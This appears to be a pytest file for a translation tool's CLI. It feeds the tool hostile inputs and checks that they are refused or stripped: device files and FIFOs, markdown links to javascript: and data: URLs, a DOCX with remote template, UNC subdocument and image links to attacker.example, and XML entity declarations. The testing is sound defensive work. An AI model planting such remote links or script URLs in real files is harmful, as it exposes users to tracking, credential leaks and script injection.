"""Hostile inputs, round three: device files and FIFOs, reference-style links, remote relationships and
DOCTYPEs in a DOCX, entities in TBX, crafted run data in review files."""

import io
import json
import os
import re
import threading
import zipfile

import docx
import pytest
from click.testing import CliRunner
from docx.oxml import parse_xml
from test_hostile_inputs import assert_one_line_exit_2, docx_bytes

from translate.cli import cli
from translate.pipeline.options import RunOptions
from translate.pipeline.run import run_file

R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELS = R_NS + "/"


def translate(path, out, engine, formats=("md",)):
    options = RunOptions(out_dir=str(out), quiet=True, formats=formats, use_cache=False, force=True)
    return run_file(str(path), options, load_engine=lambda: engine())


@pytest.mark.parametrize("args", [["run", "/dev/zero", "--model", "/nonexistent"], ["clean", "/dev/zero"],
                                  ["check", "{article}", "/dev/zero"], ["glossary", "list", "-g", "/dev/zero"],
                                  ["glossary", "import", "/dev/zero", "-g", "{tmp}/g.csv"],
                                  ["tm", "import", "/dev/zero", "--tm", "{tmp}/tm.sqlite"]])
def test_a_device_file_is_read_with_the_64_mb_cap(tmp_path, args):
    source = tmp_path / "a.txt"
    source.write_text("公司用户达到一百万。\n", encoding="utf-8")
    args = [a.format(article=source, tmp=tmp_path) for a in args]
    assert_one_line_exit_2(CliRunner().invoke(cli, args), "/dev/zero", "64 MB")


def test_a_fifo_is_read_with_the_64_mb_cap(tmp_path):
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)

    def feed():
        try:
            with open(fifo, "wb") as writer:
                while True:
                    writer.write(b"\xe4\xb8\xad" * 2**20)
        except (BrokenPipeError, OSError):
            pass

    feeder = threading.Thread(target=feed, daemon=True)
    feeder.start()
    assert_one_line_exit_2(CliRunner().invoke(cli, ["clean", str(fifo)]), str(fifo), "64 MB")


def test_reference_style_links_to_script_or_data_urls_never_reach_the_bilingual_markdown(tmp_path, rule_engine):
    source = tmp_path / "links.md"
    source.write_text("# 标题\n\n看[这里][1]和[那里][2]，还有[图][3]。\n\n[1]: javascript:alert(1)\n\n"
                      "[2]:   JavaScript:alert(2)\n[3]: data:text/html;base64,PHNjcmlwdD4=\n\n"
                      "[安全](https://example.com/a) 正文。\n", encoding="utf-8")
    translate(source, tmp_path / "out", rule_engine)
    text = (tmp_path / "out" / "links.bilingual.md").read_text(encoding="utf-8")
    assert "javascript:alert(1)" in text  # shown as text...
    assert not re.search(r"^\s*\[[^\]]+\]:\s*(javascript|data):", text, re.I | re.M)  # ...never a definition
    assert not re.search(r"\]\(\s*(javascript|data):", text, re.I)
    assert "[安全](https://example.com/a)" in text  # an ordinary link is kept


def remote_docx(path):
    document = docx.Document()
    document.add_paragraph("第一段正文。")
    document.add_paragraph("第二段正文。")
    settings = document.part._settings_part
    template = settings.rels.get_or_add_ext_rel(RELS + "attachedTemplate", "http://attacker.example/t.dotm")
    settings.element.append(parse_xml(f'<w:attachedTemplate xmlns:w="{W_NS}" xmlns:r="{R_NS}" r:id="{template}"/>'))
    sub = document.part.rels.get_or_add_ext_rel(RELS + "subDocument", "\\\\attacker.example\\share\\sub.docx")
    document.element.body.insert(0, parse_xml(f'<w:p xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:subDoc r:id="{sub}"/></w:p>'))
    picture = document.part.rels.get_or_add_ext_rel(RELS + "image", "http://attacker.example/pixel.png")
    document.element.body.insert(0, parse_xml(
        f'<w:p xmlns:w="{W_NS}"><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/'
        f'main" xmlns:r="{R_NS}" r:link="{picture}"/></w:drawing></w:r></w:p>'))
    document.part.rels.get_or_add_ext_rel(RELS + "hyperlink", "https://example.com/story")
    document.save(str(path))


def test_remote_relationships_of_an_input_docx_are_reported_and_left_out(tmp_path, rule_engine):
    source = tmp_path / "remote.docx"
    remote_docx(source)
    result = translate(source, tmp_path / "out", rule_engine, formats=("docx",))
    assert any("3 remote link(s)" in w and "attachedTemplate" in w for w in result.document.warnings)
    with zipfile.ZipFile(tmp_path / "out" / "remote.en.docx") as package:
        everything = b"".join(package.read(name) for name in package.namelist())
        document_xml = package.read("word/document.xml").decode("utf-8")
    assert b"attacker.example" not in everything and b"https://example.com/story" in everything
    assert "subDoc" not in document_xml and "r:link" not in document_xml
    assert "第一段" not in document_xml  # translated in place, the rest of the package kept


def test_a_docx_with_a_doctype_is_refused_not_cut(tmp_path):
    data = docx_bytes()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            member = source.read(item.filename)
            if item.filename == "word/document.xml":
                member = member.replace(b"?>", b'?><!DOCTYPE w:document [<!ENTITY x "\xe4\xb8\xad">]>', 1)
                member = member.replace("第一段".encode(), "第&x;段".encode())
            target.writestr(item, member)
    path = tmp_path / "entity.docx"
    path.write_bytes(out.getvalue())
    assert_one_line_exit_2(CliRunner().invoke(cli, ["run", str(path), "--model", "/nonexistent"]), "DOCTYPE")


def test_a_tbx_term_written_as_an_entity_is_refused_not_dropped(tmp_path):
    tbx = tmp_path / "terms.tbx"
    tbx.write_text('<?xml version="1.0"?><!DOCTYPE tbx [<!ENTITY zh "中国">]><tbx><text><body><conceptEntry id="1">'
                   '<langSec xml:lang="zh"><termSec><term>&zh;</term></termSec></langSec>'
                   '<langSec xml:lang="en"><termSec><term>China</term></termSec></langSec>'
                   '</conceptEntry></body></text></tbx>', encoding="utf-8")
    glossary = tmp_path / "g.csv"
    result = CliRunner().invoke(cli, ["glossary", "import", str(tbx), "-g", str(glossary)])
    assert_one_line_exit_2(result, str(tbx), "entities")
    assert not glossary.exists()


BAD_RUN_DATA = {"a list": [], "blocks not a list": {"blocks": 5},
                "a block without source": {"blocks": [{"id": "p1", "kind": "paragraph", "translation": "x"}]},
                "an unknown kind": {"blocks": [{"id": "p1", "kind": "sonnet", "source": "中", "translation": "x"}]}}


@pytest.mark.parametrize("what", list(BAD_RUN_DATA))
def test_crafted_run_data_in_a_review_docx_is_one_line(tmp_path, rule_engine, what):
    source = tmp_path / "news.txt"
    source.write_text("标题\n公司用户达到一百万。\n", encoding="utf-8")
    translate(source, tmp_path / "out", rule_engine, formats=("docx",))
    edited = tmp_path / "edited.docx"
    with zipfile.ZipFile(tmp_path / "out" / "news.bilingual.docx") as original, \
            zipfile.ZipFile(edited, "w") as target:
        for item in original.infolist():
            member = original.read(item.filename)
            if item.filename.endswith("translate-blocks.json"):
                member = json.dumps(BAD_RUN_DATA[what]).encode()
            target.writestr(item, member)
    result = CliRunner().invoke(cli, ["review", "import", str(edited), "-o", str(tmp_path / "review")])
    assert_one_line_exit_2(result, str(edited))


@pytest.mark.parametrize("what", list(BAD_RUN_DATA))
def test_crafted_run_data_in_an_xliff_skeleton_is_one_line(tmp_path, rule_engine, what):
    source = tmp_path / "news.txt"
    source.write_text("标题\n公司用户达到一百万。\n", encoding="utf-8")
    translate(source, tmp_path / "out", rule_engine, formats=("xliff",))
    xliff = (tmp_path / "out" / "news.xlf").read_text(encoding="utf-8")
    crafted = re.sub(r'(<internal-file[^>]*>)[^<]*(</internal-file>)',
                     lambda m: m[1] + json.dumps(BAD_RUN_DATA[what]).replace("&", "&amp;").replace("<", "&lt;")
                     + m[2], xliff)
    assert crafted != xliff
    edited = tmp_path / "edited.xlf"
    edited.write_text(crafted, encoding="utf-8")
    result = CliRunner().invoke(cli, ["review", "import", str(edited), "-o", str(tmp_path / "review")])
    assert_one_line_exit_2(result, str(edited))
